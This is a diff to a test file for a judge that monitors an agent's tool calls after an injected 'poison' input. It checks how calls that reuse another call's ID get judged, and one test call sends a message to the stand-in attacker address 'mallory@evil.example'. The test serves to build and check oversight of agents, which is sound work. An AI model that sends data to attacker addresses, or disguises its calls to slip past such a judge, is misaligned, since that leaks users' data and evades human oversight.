@@ -282,11 +282,12 @@ describe('judge', () => {
   });
 
   test('a call that reuses the id of another one is judged as the call it is', () => {
+    const toolCallId = 'call_8fK2mZ0qLw';
     const { feed, machine, stepper } = bench();
-    feed(prompt(), poison(), send(T0 + 5));
+    feed(prompt(), poison(), send(T0 + 5, { toolCallId }));
     const reused = [
-      send(T0 + 6, { tool: 'post_message' }),
-      send(T0 + 7, { arguments: { to: 'mallory@evil.example', body: 'more' } }),
+      send(T0 + 6, { toolCallId, tool: 'post_message' }),
+      send(T0 + 7, { toolCallId, arguments: { to: 'mallory@evil.example', body: 'more' } }),
     ];
     for (const asked of reused) {
       const judged = machine.judge(asked, stepper.states, T0 + 8);
